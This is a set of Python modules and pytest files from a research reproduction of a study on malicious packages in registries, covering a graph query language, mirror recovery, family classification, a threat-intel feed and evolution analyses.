    def _show(title: str, rendered: str) -> None:
        if title in seen:
            return
        seen.add(title)
        bar = "=" * 72
        print(f"\n{bar}\n{title}\n{bar}\n{rendered}")

    return _show
