"""Fig. 9 — CDF of the active period of CG, DeG and SG campaigns.

Paper shape: SG campaigns are the shortest (80% last days), CG sit in
the middle (80% under a year), and DeG campaigns run the longest
(a benign front package sits dormant before the malicious dependency
is exercised).
"""

from __future__ import annotations

from repro.core.groups import GroupKind


def test_fig9_active_periods(benchmark, artifacts, show):
    cdf = benchmark(artifacts.fig9_active_periods)
    show("Fig. 9: active period of CG, DeG, SG", cdf.render())

    p80 = cdf.p80_years
    assert set(p80) >= {GroupKind.SG, GroupKind.CG, GroupKind.DEG}
    assert p80[GroupKind.SG] <= p80[GroupKind.CG] <= p80[GroupKind.DEG], (
        "SG shortest, DeG longest active periods (paper, Fig. 9)"
    )
    assert p80[GroupKind.SG] < 0.5, "80% of SG campaigns last days"
    assert p80[GroupKind.DEG] > p80[GroupKind.SG], (
        "dependency campaigns have the longest active period"
    )
