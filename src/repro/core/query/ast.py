"""AST for the MALGRAPH query language.

Every node is a frozen dataclass, so parsed queries are hashable,
comparable and safe to cache. :func:`render` turns any AST back into
canonical query text; the parser and renderer are exact inverses over
canonical form (``parse(render(ast)) == ast``), which the property
tests exercise.

Two query shapes exist:

* :class:`MatchQuery` — ``MATCH <pattern> [WHERE ...] RETURN ...
  [ORDER BY ...] [LIMIT n]`` over a chain of node patterns joined by
  typed, optionally directed, optionally variable-length edge patterns;
* :class:`CallQuery` — ``CALL <procedure>(args...) [LIMIT n]`` for the
  built-in graph procedures (``shortest_path``, ``neighborhood``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, Optional, Tuple, Union

from repro.core.graph import EdgeType
from repro.errors import ReproError

#: literal values the language knows: strings, ints, floats
Literal = Union[str, int, float]


class QueryError(ReproError):
    """Raised for malformed or unsupported queries."""


class QuerySyntaxError(QueryError):
    """A parse failure, carrying the offending offset in the source text.

    The rendered message includes the source line and a caret pointing
    at the offset, so CLI and HTTP consumers can show precise errors.
    """

    def __init__(self, message: str, text: str, offset: int):
        self.reason = message
        self.text = text
        self.offset = max(0, min(offset, len(text)))
        caret = " " * self.offset + "^"
        super().__init__(
            f"{message} at offset {self.offset}\n  {text}\n  {caret}"
        )


def render_literal(value: Literal) -> str:
    """A literal as query text (strings quoted, quotes escaped)."""
    if isinstance(value, str):
        return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"
    return repr(value)


# ---------------------------------------------------------------------------
# Pattern
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class NodePattern:
    """``(var)`` or ``(var {attr: literal, ...})``."""

    var: str
    props: Tuple[Tuple[str, Literal], ...] = ()

    def matches(self, attrs: Dict[str, Any]) -> bool:
        return all(attrs.get(key) == value for key, value in self.props)

    def render(self) -> str:
        if not self.props:
            return f"({self.var})"
        inner = ", ".join(
            f"{key}: {render_literal(value)}" for key, value in self.props
        )
        return f"({self.var} {{{inner}}})"


@dataclass(frozen=True)
class EdgePattern:
    """One hop specification between two adjacent node patterns.

    ``types`` is the allowed edge-type set (empty = any type),
    ``direction`` is ``"any"`` (``-[..]-``), ``"out"`` (``-[..]->``) or
    ``"in"`` (``<-[..]-``), and ``min_hops``/``max_hops`` carry the
    ``*lo..hi`` variable-length range (``max_hops=None`` = unbounded).
    A plain single hop is ``min_hops == max_hops == 1``.
    """

    types: Tuple[EdgeType, ...] = ()
    direction: str = "any"  # "any" | "out" | "in"
    min_hops: int = 1
    max_hops: Optional[int] = 1

    @property
    def is_variable(self) -> bool:
        return not (self.min_hops == 1 and self.max_hops == 1)

    def render(self) -> str:
        inner = "|".join(t.value for t in self.types)
        if self.is_variable:
            if self.min_hops == 1 and self.max_hops is None:
                hops = "*"
            elif self.max_hops is None:
                hops = f"*{self.min_hops}.."
            elif self.min_hops == self.max_hops:
                hops = f"*{self.min_hops}"
            else:
                hops = f"*{self.min_hops}..{self.max_hops}"
            inner += hops
        left = "<-" if self.direction == "in" else "-"
        right = "->" if self.direction == "out" else "-"
        return f"{left}[{inner}]{right}"


# ---------------------------------------------------------------------------
# WHERE expressions
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class Comparison:
    """``[NOT] var.attr OP literal`` or ``var.attr IS [NOT] NULL``."""

    var: str
    attr: str
    op: str  # "=", "!=", "<", "<=", ">", ">=", "contains", "is-null"
    literal: Optional[Literal] = None
    negated: bool = False

    def evaluate(self, attrs: Dict[str, Any]) -> bool:
        return self._base(attrs) != self.negated

    def _base(self, attrs: Dict[str, Any]) -> bool:
        value = attrs.get(self.attr)
        if self.op == "is-null":
            return value is None
        if self.op == "contains":
            return isinstance(value, str) and str(self.literal) in value
        if value is None:
            return False
        if self.op == "=":
            return value == self.literal
        if self.op == "!=":
            return value != self.literal
        try:
            if self.op == "<":
                return value < self.literal
            if self.op == "<=":
                return value <= self.literal
            if self.op == ">":
                return value > self.literal
            if self.op == ">=":
                return value >= self.literal
        except TypeError:
            return False
        raise QueryError(f"unknown operator {self.op!r}")  # pragma: no cover

    def render(self) -> str:
        if self.op == "is-null":
            verb = "IS NOT NULL" if self.negated else "IS NULL"
            return f"{self.var}.{self.attr} {verb}"
        op = "CONTAINS" if self.op == "contains" else self.op
        text = f"{self.var}.{self.attr} {op} {render_literal(self.literal)}"
        return f"NOT {text}" if self.negated else text


@dataclass(frozen=True)
class BoolExpr:
    """AND/OR tree over comparisons (AND binds tighter than OR)."""

    op: str  # "and" | "or"
    parts: Tuple[Union["BoolExpr", Comparison], ...]

    def evaluate(self, bindings: Dict[str, Dict[str, Any]]) -> bool:
        results = (
            part.evaluate(bindings.get(part.var, {}))
            if isinstance(part, Comparison)
            else part.evaluate(bindings)
            for part in self.parts
        )
        return all(results) if self.op == "and" else any(results)

    def vars_used(self) -> set:
        used = set()
        for part in self.parts:
            if isinstance(part, Comparison):
                used.add(part.var)
            else:
                used |= part.vars_used()
        return used

    def render(self) -> str:
        if self.op == "and":
            rendered = [
                f"({part.render()})" if isinstance(part, BoolExpr) else part.render()
                for part in self.parts
            ]
            return " AND ".join(rendered)
        rendered = [
            f"({part.render()})"
            if isinstance(part, BoolExpr) and part.op == "or"
            else part.render()
            for part in self.parts
        ]
        return " OR ".join(rendered)


# ---------------------------------------------------------------------------
# RETURN
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class ReturnItem:
    """One projection: a variable, an attribute, or COUNT(*)."""

    var: Optional[str]
    attr: Optional[str]
    is_count: bool = False

    @property
    def label(self) -> str:
        if self.is_count:
            return "count(*)"
        return f"{self.var}.{self.attr}" if self.attr else self.var

    def render(self) -> str:
        return self.label


# ---------------------------------------------------------------------------
# Queries
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class MatchQuery:
    """A parsed MATCH query, ready to plan and execute."""

    nodes: Tuple[NodePattern, ...]
    edges: Tuple[EdgePattern, ...]
    where: Optional[BoolExpr] = None
    returns: Tuple[ReturnItem, ...] = ()
    order_by: Optional[ReturnItem] = None
    order_desc: bool = False
    limit: Optional[int] = None

    @property
    def variables(self) -> list:
        return [node.var for node in self.nodes]

    @property
    def edge_type(self) -> Optional[EdgeType]:
        """The single edge's type for legacy one-hop queries, else None."""
        if len(self.edges) == 1:
            edge = self.edges[0]
            if not edge.is_variable and len(edge.types) == 1:
                return edge.types[0]
        return None

    def render(self) -> str:
        parts = ["MATCH ", self.nodes[0].render()]
        for edge, node in zip(self.edges, self.nodes[1:]):
            parts.append(edge.render())
            parts.append(node.render())
        if self.where is not None:
            parts.append(f" WHERE {self.where.render()}")
        parts.append(" RETURN ")
        parts.append(", ".join(item.render() for item in self.returns))
        if self.order_by is not None:
            parts.append(f" ORDER BY {self.order_by.render()}")
            if self.order_desc:
                parts.append(" DESC")
        if self.limit is not None:
            parts.append(f" LIMIT {self.limit}")
        return "".join(parts)


@dataclass(frozen=True)
class CallQuery:
    """``CALL procedure(arg, ...) [LIMIT n]``."""

    procedure: str
    args: Tuple[Literal, ...] = ()
    limit: Optional[int] = None

    def render(self) -> str:
        rendered = ", ".join(render_literal(a) for a in self.args)
        text = f"CALL {self.procedure}({rendered})"
        if self.limit is not None:
            text += f" LIMIT {self.limit}"
        return text


#: any parsed query
QueryAst = Union[MatchQuery, CallQuery]


def render(query: QueryAst) -> str:
    """Canonical query text for a parsed query (inverse of ``parse``)."""
    return query.render()
