"""Mirror recovery and the Fig. 5 miss classification."""

from __future__ import annotations

import pytest

from repro.collection.mirrorsearch import (
    MissCause,
    RecoveryStats,
    classify_miss,
    recover_from_mirrors,
)
from repro.ecosystem.mirror import MirrorNetwork, MirrorRegistry
from repro.ecosystem.registry import Registry
from repro.ecosystem.package import make_artifact

from tests.core.helpers import entry


def _mirrored_registry():
    """A root registry + one archival mirror that synced day 50."""
    registry = Registry("pypi")
    artifact = make_artifact("pypi", "victim", "1.0", {"pkg/m.py": "X = 1\n"})
    mirror = MirrorRegistry(
        name="pypi-m1",
        upstream=registry,
        sync_interval=30,
        start_day=0,
        archival=True,
    )
    registry.publish(artifact, day=10, malicious=True)
    mirror.sync(30)  # captures the still-live package
    registry.mark_detected("victim", "1.0", 40, by="scanner")
    registry.remove("victim", "1.0", 41)
    network = MirrorNetwork([mirror])
    return registry, network


def test_recover_finds_archived_package():
    _registry, network = _mirrored_registry()
    gone = entry("victim", code=None)
    stats = recover_from_mirrors([gone], network)
    assert stats.attempted == 1
    assert stats.recovered == 1
    assert gone.available
    assert gone.artifact_origin == "mirror:pypi-m1"
    assert stats.recovery_rate == 1.0


def test_recover_skips_already_available():
    _registry, network = _mirrored_registry()
    have = entry("victim")
    origin_before = have.artifact_origin
    stats = recover_from_mirrors([have], network)
    assert stats.attempted == 0
    assert have.artifact_origin == origin_before


def test_recover_records_miss():
    _registry, network = _mirrored_registry()
    ghost = entry("never-existed", code=None)
    stats = recover_from_mirrors([ghost], network)
    assert stats.recovered == 0
    assert sum(stats.misses.values()) == 1


def test_classify_no_mirror_coverage():
    cause = classify_miss(entry("x", code=None), MirrorNetwork())
    assert cause is MissCause.NO_MIRROR_COVERAGE


def test_classify_released_too_early():
    registry = Registry("pypi")
    mirror = MirrorRegistry(
        name="m", upstream=registry, sync_interval=30, start_day=500, archival=True
    )
    network = MirrorNetwork([mirror])
    early = entry("x", code=None, release_day=100)
    assert classify_miss(early, network) is MissCause.RELEASED_TOO_EARLY


def test_classify_persisted_too_briefly():
    registry = Registry("pypi")
    mirror = MirrorRegistry(
        name="m", upstream=registry, sync_interval=30, start_day=0, archival=True
    )
    network = MirrorNetwork([mirror])
    brief = entry("x", code=None, release_day=100)
    assert classify_miss(brief, network) is MissCause.PERSISTED_TOO_BRIEFLY


def test_removal_exactly_on_sync_tick_is_persisted_too_briefly():
    """A lagging mirror that syncs on the removal day snapshots the
    post-removal live set — the package was never captured, and the miss
    is attributed to its brief persistence, not to mirror coverage."""
    registry = Registry("pypi")
    artifact = make_artifact("pypi", "victim", "1.0", {"pkg/m.py": "X = 1\n"})
    mirror = MirrorRegistry(
        name="lagging", upstream=registry, sync_interval=30, start_day=0
    )
    registry.publish(artifact, day=10, malicious=True)
    registry.mark_detected("victim", "1.0", 29, by="scanner")
    registry.remove("victim", "1.0", 30)
    assert mirror.due(30)
    mirror.sync(30)  # the tick lands exactly on the removal day
    network = MirrorNetwork([mirror])
    gone = entry("victim", code=None, release_day=10)
    stats = recover_from_mirrors([gone], network)
    assert stats.recovered == 0
    assert stats.misses == {MissCause.PERSISTED_TOO_BRIEFLY: 1}


def test_coverage_starting_after_release_is_released_too_early():
    """Archival coverage that begins after the release day can never have
    captured the package."""
    registry = Registry("pypi")
    fleet = [
        MirrorRegistry(
            name=f"m{start}",
            upstream=registry,
            sync_interval=30,
            start_day=start,
            archival=True,
        )
        for start in (400, 900)
    ]
    network = MirrorNetwork(fleet)
    before = entry("x", code=None, release_day=399)
    assert classify_miss(before, network) is MissCause.RELEASED_TOO_EARLY
    # boundary: released exactly on the earliest coverage start — the
    # archival mirror could have captured it, so the miss is persistence
    on_boundary = entry("x", code=None, release_day=400)
    assert classify_miss(on_boundary, network) is MissCause.PERSISTED_TOO_BRIEFLY


def test_fleet_without_this_ecosystem_is_no_mirror_coverage():
    """Mirrors exist, but none for the entry's ecosystem."""
    npm_registry = Registry("npm")
    network = MirrorNetwork(
        [
            MirrorRegistry(
                name="npm-only",
                upstream=npm_registry,
                sync_interval=7,
                archival=True,
            )
        ]
    )
    orphan = entry("x", ecosystem="pypi", code=None, release_day=10)
    assert classify_miss(orphan, network) is MissCause.NO_MIRROR_COVERAGE
    stats = recover_from_mirrors([orphan], network)
    assert stats.misses == {MissCause.NO_MIRROR_COVERAGE: 1}


def test_recovery_stats_record_miss():
    stats = RecoveryStats()
    stats.record_miss(MissCause.RELEASED_TOO_EARLY)
    stats.record_miss(MissCause.RELEASED_TOO_EARLY)
    assert stats.misses[MissCause.RELEASED_TOO_EARLY] == 2
    assert stats.recovery_rate == 0.0
