"""Behaviour-family classification and the family census."""

from __future__ import annotations

import pytest

from repro.analysis.families import compute_family_census, true_category
from repro.core.malgraph import MalGraph
from repro.core.similarity import SimilarityConfig
from repro.detection.detector import Detector
from repro.detection.families import CATEGORIES, classify_artifact, classify_many
from repro.ecosystem.package import make_artifact
from repro.malware.behaviors import BEHAVIORS, get_behavior
from repro.malware.codegen import (
    generate_benign_source_tree,
    generate_source_tree,
    make_style,
)

from tests.core.helpers import dataset, entry


def _artifact(behavior_key: str, seed: int = 42):
    tree = generate_source_tree(get_behavior(behavior_key), make_style(seed), "pkg_f")
    return make_artifact("pypi", "fam-test", "1.0", tree.files)


@pytest.mark.parametrize("behavior", BEHAVIORS, ids=lambda b: b.key)
def test_classifier_matches_ground_truth_category(behavior):
    verdict = classify_artifact(_artifact(behavior.key))
    assert verdict.category == behavior.category
    assert verdict.signals
    assert 0.0 < verdict.confidence <= 1.0


def test_classifier_benign_package():
    tree = generate_benign_source_tree(make_style(9), "pkg_b")
    artifact = make_artifact(
        "pypi", "nice", "1.0", tree.files, description="A well-documented library"
    )
    verdict = classify_artifact(artifact)
    assert verdict.category == "benign-looking"


def test_classifier_reuses_supplied_verdict():
    artifact = _artifact("downloader")
    detector = Detector()
    scanned = detector.scan(artifact)
    assert classify_artifact(artifact, scanned).category == "dropper"


def test_classify_many_order():
    artifacts = [_artifact("downloader"), _artifact("cryptominer")]
    categories = [v.category for v in classify_many(artifacts)]
    assert categories == ["dropper", "resource-abuse"]


def test_all_emitted_categories_are_registered():
    for behavior in BEHAVIORS:
        assert behavior.category in CATEGORIES


def test_true_category_lookup():
    assert true_category("cryptominer") == "resource-abuse"
    assert true_category("nonexistent") is None
    assert true_category(None) is None
    assert true_category("") is None


# -- census ------------------------------------------------------------------

def _census_malgraph():
    stealer = generate_source_tree(
        get_behavior("credential-stealer"), make_style(1), "pkg_s"
    )
    miner = generate_source_tree(get_behavior("cryptominer"), make_style(2), "pkg_m")
    entries = []
    for idx in range(3):
        e = entry(f"steal-{idx}", release_day=10 + idx)
        e.artifact = make_artifact("pypi", f"steal-{idx}", "1.0", stealer.files)
        e.behavior_key = "credential-stealer"
        entries.append(e)
    for idx in range(2):
        e = entry(f"mine-{idx}", release_day=20 + idx)
        e.artifact = make_artifact("pypi", f"mine-{idx}", "1.0", miner.files)
        e.behavior_key = "cryptominer"
        entries.append(e)
    return MalGraph.build(dataset(entries), SimilarityConfig(seed=0, max_k=2))


def test_census_counts_families_and_packages():
    census = compute_family_census(_census_malgraph())
    assert census.total_families == 2
    by_category = {row.category: row for row in census.rows}
    assert by_category["information-stealing"].families == 1
    assert by_category["information-stealing"].packages == 3
    assert by_category["resource-abuse"].packages == 2


def test_census_accuracy_on_clean_templates():
    census = compute_family_census(_census_malgraph())
    assert census.classified_packages == 5
    assert census.accuracy == pytest.approx(1.0)
    assert census.confusion == {
        ("information-stealing", "information-stealing"): 3,
        ("resource-abuse", "resource-abuse"): 2,
    }


def test_census_render():
    out = compute_family_census(_census_malgraph()).render()
    assert "family census" in out
    assert "information-stealing" in out


def test_world_census_accuracy(paper):
    """At full scale the static classifier agrees with ground truth on
    the overwhelming majority of grouped packages — the paper's claim
    that today's corpus shows known behaviours, made measurable."""
    census = compute_family_census(paper.malgraph)
    assert census.total_families > 50
    assert census.accuracy > 0.8
    categories = {row.category for row in census.rows}
    assert "information-stealing" in categories
