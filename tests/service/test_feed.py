"""The /v1/feed exporter: STIX-ish items, refresh-stable cursors, 410s."""

from __future__ import annotations

import json
import threading
import urllib.error
import urllib.request

import pytest

from repro.core.malgraph import MalGraph
from repro.service.cache import build_service
from repro.service.feed import (
    CursorError,
    CursorExpired,
    decode_cursor,
    encode_cursor,
    feed_item,
)
from repro.service.index import IntelIndex
from repro.service.server import create_server, server_address

from tests.core.helpers import dataset, entry


def code_for(tag: str) -> str:
    return f"def payload_{tag}():\n    return '{tag}'\n"


def make_entries(count: int, prefix: str = "pkg"):
    return [
        entry(f"{prefix}-{i:03d}", code=code_for(f"{prefix}{i}"))
        for i in range(count)
    ]


def service_over(entries, **kwargs):
    return build_service(MalGraph.build(dataset(entries)), **kwargs)


def index_over(entries) -> IntelIndex:
    return IntelIndex.build(MalGraph.build(dataset(entries)))


# -- feed items --------------------------------------------------------------

def test_feed_item_is_a_stix_ish_indicator(small_dataset):
    held = small_dataset.entries[0]
    item = feed_item(held)
    package = held.package
    assert item["type"] == "indicator"
    assert item["id"] == (
        f"indicator--{package.ecosystem}--{package.name}--{package.version}"
    )
    assert item["labels"] == ["malicious-activity"]
    assert package.name in item["pattern"]
    assert item["pattern_type"] == "package-coordinate"
    assert item["sha256"] == held.sha256()
    assert len(item["external_references"]) == len(held.claims)
    for reference, claim in zip(item["external_references"], held.claims):
        assert reference["source_name"] == claim.source
        assert reference["report_day"] == claim.report_day
    json.dumps(item)  # JSON-safe by construction


# -- cursors -----------------------------------------------------------------

def test_cursor_round_trips():
    cursor = encode_cursor(7, 1200)
    assert decode_cursor(cursor) == (7, 1200)
    assert "=" not in cursor  # padding stripped; still URL-safe


@pytest.mark.parametrize(
    "garbage",
    [
        "not-base64!!!",
        "aGVsbG8",  # valid base64, not JSON
        encode_cursor(1, 5)[:-4] + "XXXX",
    ],
)
def test_malformed_cursors_raise_cursor_error(garbage):
    with pytest.raises(CursorError):
        decode_cursor(garbage)


def test_cursor_payload_validation():
    import base64

    def forge(payload) -> str:
        raw = json.dumps(payload).encode()
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")

    for payload in [
        ["g", "o"],
        {"g": 1},
        {"g": "1", "o": 0},
        {"g": 1, "o": -1},
        {"g": True, "o": 0},
    ]:
        with pytest.raises(CursorError):
            decode_cursor(forge(payload))


# -- pagination --------------------------------------------------------------

def test_walk_covers_every_entry_exactly_once():
    service = service_over(make_entries(25))
    items = service.feed.walk(limit=7)
    expected = [feed_item(e)["id"] for e in service.index.dataset.entries]
    assert [i["id"] for i in items] == expected  # canonical order, no dup/miss


def test_page_shape_and_cursor_chain():
    service = service_over(make_entries(10))
    page = service.feed.page(limit=4)
    assert page["generation"] == 0
    assert page["total"] == 10
    assert (page["offset"], page["count"]) == (0, 4)
    assert page["next_cursor"] is not None
    last = service.feed.page(cursor=page["next_cursor"], limit=100)
    assert (last["offset"], last["count"]) == (4, 6)
    assert last["next_cursor"] is None  # walk complete


def test_limit_bounds_are_enforced():
    service = service_over(make_entries(3))
    with pytest.raises(CursorError):
        service.feed.page(limit=0)
    with pytest.raises(CursorError):
        service.feed.page(limit=1001)


def test_two_walks_over_one_generation_issue_identical_cursors():
    service = service_over(make_entries(9))
    first = service.feed.page(limit=3)
    second = service.feed.page(limit=3)
    assert first == second


# -- refresh stability (the acceptance property) -----------------------------

def test_walk_survives_refresh_with_zero_dups_zero_missed():
    """A walk started on generation g keeps seeing g's items even while
    publishes land between its page requests."""
    service = service_over(make_entries(20, "old"))
    original = [feed_item(e)["id"] for e in service.index.dataset.entries]

    seen = []
    page = service.feed.page(limit=6)
    seen.extend(i["id"] for i in page["items"])
    grown = make_entries(20, "old") + make_entries(5, "new")
    while page["next_cursor"] is not None:
        # a refresh lands between every pair of page requests
        service.publish(index_over(grown))
        page = service.feed.page(cursor=page["next_cursor"], limit=6)
        seen.extend(i["id"] for i in page["items"])

    assert seen == original  # zero duplicates, zero missed, exact order
    # while a *fresh* walk sees the new generation
    fresh = service.feed.page(limit=100)
    assert fresh["generation"] == service.generation
    assert fresh["total"] == 25


def test_evicted_generation_answers_cursor_expired():
    service = service_over(make_entries(8))
    cursor = service.feed.page(limit=2)["next_cursor"]
    grown = make_entries(8) + make_entries(2, "late")
    for _ in range(service.feed.keep_generations + 1):
        service.publish(index_over(grown))
        service.feed.page(limit=1)  # materialise, pushing old ones out
    with pytest.raises(CursorExpired) as failure:
        service.feed.page(cursor=cursor, limit=2)
    assert failure.value.generation == 0
    assert failure.value.current == service.generation
    assert "restart" in str(failure.value)
    assert service.feed.stats()["cursors_expired"] == 1


def test_future_generation_cursor_from_another_process_expires():
    service = service_over(make_entries(4))
    with pytest.raises(CursorExpired):
        service.feed.page(cursor=encode_cursor(99, 0), limit=2)


def test_stats_track_cached_generations_and_pages():
    service = service_over(make_entries(6))
    service.feed.walk(limit=2)
    stats = service.feed.stats()
    assert stats["generations_cached"] == [0]
    assert stats["pages_served"] == 3
    assert stats["cursors_expired"] == 0


# -- over HTTP ---------------------------------------------------------------

@pytest.fixture()
def live_feed():
    service = service_over(make_entries(12))
    server = create_server(service, port=0)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{host}:{port}", service
    server.shutdown()
    server.server_close()


def _get(url: str):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, json.load(response)


def test_http_feed_paginates(live_feed):
    base, _ = live_feed
    status, page = _get(f"{base}/v1/feed?limit=5")
    assert status == 200
    assert page["total"] == 12 and page["count"] == 5
    status, rest = _get(f"{base}/v1/feed?cursor={page['next_cursor']}&limit=10")
    assert status == 200
    assert rest["offset"] == 5 and rest["count"] == 7
    assert rest["next_cursor"] is None


@pytest.mark.parametrize(
    "query",
    ["limit=0", "limit=2000", "limit=abc", "cursor=", "cursor=!!!", "foo=1"],
)
def test_http_feed_rejects_bad_requests(live_feed, query):
    base, _ = live_feed
    with pytest.raises(urllib.error.HTTPError) as failure:
        _get(f"{base}/v1/feed?{query}")
    assert failure.value.code == 400


def test_http_feed_expired_cursor_is_410_with_restart_hint(live_feed):
    base, service = live_feed
    _, page = _get(f"{base}/v1/feed?limit=3")
    cursor = page["next_cursor"]
    grown = make_entries(12) + make_entries(1, "late")
    for _ in range(service.feed.keep_generations + 1):
        service.publish(index_over(grown))
        _get(f"{base}/v1/feed?limit=1")
    with pytest.raises(urllib.error.HTTPError) as failure:
        _get(f"{base}/v1/feed?cursor={cursor}")
    assert failure.value.code == 410
    body = json.load(failure.value)
    assert body["expired_generation"] == 0
    assert body["current_generation"] == service.generation
    assert body["restart"] == "/v1/feed"
