"""RQ4 evolution analyses: Fig. 11, Fig. 12 and Table VIII.

A group's members are sorted by release time; consecutive pairs give the
changing-operation sets (``op_i = diff(mal_i, mal_{i+1})``) and the
download series gives the impact evolution.

* Fig. 11 — box plot of download counts by release order across groups;
* Fig. 12 — distribution of the five changing operations;
* Table VIII — top-10 increasing download number (IDN) with the
  operation set that produced each jump.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Sequence, Tuple

from repro.analysis.render import render_bars, render_box_series, render_table
from repro.analysis.stats import BoxStats, box_stats, percentage
from repro.collection.records import DatasetEntry
from repro.core.groups import GroupKind, PackageGroup
from repro.core.malgraph import MalGraph
from repro.malware.operations import (
    ChangeOp,
    OP_ORDER,
    changed_code_lines,
    diff_ops,
    format_ops,
)


def evolution_groups(malgraph: MalGraph) -> List[PackageGroup]:
    """Groups usable for evolution analysis: similarity groups whose
    members carry artifacts (needed to diff code/metadata)."""
    groups = []
    for group in malgraph.groups(GroupKind.SG):
        members = [m for m in group.members if m.available and m.release_day is not None]
        if len(members) >= 2:
            groups.append(PackageGroup(kind=group.kind, members=members))
    return groups


# ---------------------------------------------------------------------------
# Fig. 11 — download evolution
# ---------------------------------------------------------------------------

@dataclass
class DownloadEvolution:
    """Box stats of download counts by release order (Fig. 11)."""

    positions: List[int]  # release order index (0-based), decimated
    boxes: List[Optional[BoxStats]]
    outlier_threshold: float
    outliers: List[Tuple[str, int]]  # (package, downloads) above threshold

    def render(self) -> str:
        body = render_box_series(
            [str(p + 1) for p in self.positions],
            self.boxes,
            title="Fig. 11: download evolution by release order",
        )
        if self.outliers:
            top = ", ".join(f"{name}={count:,}" for name, count in self.outliers[:5])
            body += f"\noutliers (> {self.outlier_threshold:,.0f} downloads): {top}"
        return body


def compute_download_evolution(
    malgraph: MalGraph,
    every: int = 10,
    max_positions: int = 40,
    outlier_threshold: float = 100_000.0,
) -> DownloadEvolution:
    """Download box stats per release position across groups (Fig. 11).

    The paper plots a box for every 10th release position because of the
    data volume; ``every`` reproduces that decimation.
    """
    groups = evolution_groups(malgraph)
    by_position: Dict[int, List[float]] = {}
    outliers: List[Tuple[str, int]] = []
    for group in groups:
        for position, entry in enumerate(group.members):
            by_position.setdefault(position, []).append(float(entry.downloads))
            if entry.downloads > outlier_threshold:
                outliers.append((str(entry.package), entry.downloads))
    positions = sorted(by_position)
    decimated = [p for p in positions if p % every == 0][:max_positions]
    boxes = [box_stats(by_position[p]) for p in decimated]
    outliers.sort(key=lambda item: -item[1])
    return DownloadEvolution(
        positions=decimated,
        boxes=boxes,
        outlier_threshold=outlier_threshold,
        outliers=outliers,
    )


# ---------------------------------------------------------------------------
# Fig. 12 — operation distribution
# ---------------------------------------------------------------------------

@dataclass
class OperationDistribution:
    """Fig. 12: percentage of release attempts using each operation."""

    attempt_count: int
    percentages: Dict[ChangeOp, float]
    avg_changed_lines: float  # size of the CC edits

    def render(self) -> str:
        labels = [op.value for op in OP_ORDER]
        values = [self.percentages.get(op, 0.0) for op in OP_ORDER]
        body = render_bars(
            labels,
            values,
            title="Fig. 12: the operation distribution (%)",
            value_format="{:.2f}%",
        )
        body += (
            f"\n{self.attempt_count} release attempts; average CC edit size: "
            f"{self.avg_changed_lines:.1f} changed lines"
        )
        return body


def compute_operation_distribution(malgraph: MalGraph) -> OperationDistribution:
    """Diff consecutive releases of every group (Fig. 12)."""
    counts: Dict[ChangeOp, int] = {op: 0 for op in OP_ORDER}
    attempts = 0
    cc_lines: List[int] = []
    for group in evolution_groups(malgraph):
        members = group.members
        for prev, nxt in zip(members, members[1:]):
            attempts += 1
            ops = diff_ops(prev.artifact, nxt.artifact)
            for op in ops:
                counts[op] += 1
            if ChangeOp.CC in ops:
                cc_lines.append(changed_code_lines(prev.artifact, nxt.artifact))
    percentages = {
        op: percentage(count, attempts) for op, count in counts.items()
    }
    avg_lines = sum(cc_lines) / len(cc_lines) if cc_lines else 0.0
    return OperationDistribution(
        attempt_count=attempts, percentages=percentages, avg_changed_lines=avg_lines
    )


# ---------------------------------------------------------------------------
# Table VIII — top IDN
# ---------------------------------------------------------------------------

@dataclass
class IdnRow:
    """One Table VIII row: a download jump and its operation set."""

    idn: int
    ops: FrozenSet[ChangeOp]
    from_package: str
    to_package: str

    def render_ops(self) -> str:
        return format_ops(self.ops)


@dataclass
class TopIdnTable:
    """Table VIII: top increasing download numbers with operations."""

    rows: List[IdnRow]

    def render(self) -> str:
        return render_table(
            ["IDN", "Operation", "from", "to"],
            [
                [f"{r.idn:,}", r.render_ops(), r.from_package, r.to_package]
                for r in self.rows
            ],
            title="Table VIII: top increasing download number with operations",
        )


def compute_top_idn(malgraph: MalGraph, top: int = 10) -> TopIdnTable:
    """Rank release transitions by download increase (Table VIII)."""
    rows: List[IdnRow] = []
    for group in evolution_groups(malgraph):
        members = group.members
        for prev, nxt in zip(members, members[1:]):
            idn = nxt.downloads - prev.downloads
            if idn <= 0:
                continue
            rows.append(
                IdnRow(
                    idn=idn,
                    ops=diff_ops(prev.artifact, nxt.artifact),
                    from_package=str(prev.package),
                    to_package=str(nxt.package),
                )
            )
    rows.sort(key=lambda r: -r.idn)
    return TopIdnTable(rows=rows[:top])
