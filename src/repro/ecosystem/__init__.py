"""Registry substrate: clocks, packages, root registries, mirrors, downloads."""

from repro.ecosystem.clock import (
    DEFAULT_HORIZON_DAYS,
    EPOCH,
    SimClock,
    date_to_day,
    day_to_date,
    day_to_month,
    day_to_year,
)
from repro.ecosystem.downloads import DownloadModel, Popularity
from repro.ecosystem.mirror import (
    DEFAULT_MIRROR_PLANS,
    MirrorNetwork,
    MirrorRegistry,
    build_default_mirrors,
)
from repro.ecosystem.package import (
    ECOSYSTEMS,
    MAJOR_ECOSYSTEMS,
    PackageArtifact,
    PackageId,
    PackageMetadata,
    make_artifact,
    parse_coordinate,
)
from repro.ecosystem.registry import (
    EventKind,
    PublishedPackage,
    Registry,
    RegistryEvent,
    RegistryHub,
)

__all__ = [
    "DEFAULT_HORIZON_DAYS",
    "DEFAULT_MIRROR_PLANS",
    "ECOSYSTEMS",
    "EPOCH",
    "EventKind",
    "MAJOR_ECOSYSTEMS",
    "MirrorNetwork",
    "MirrorRegistry",
    "DownloadModel",
    "PackageArtifact",
    "PackageId",
    "PackageMetadata",
    "Popularity",
    "PublishedPackage",
    "Registry",
    "RegistryEvent",
    "RegistryHub",
    "SimClock",
    "build_default_mirrors",
    "date_to_day",
    "day_to_date",
    "day_to_month",
    "day_to_year",
    "make_artifact",
    "parse_coordinate",
]
