#!/usr/bin/env python
"""Dataset audit: measure the quality of a multi-source malware dataset.

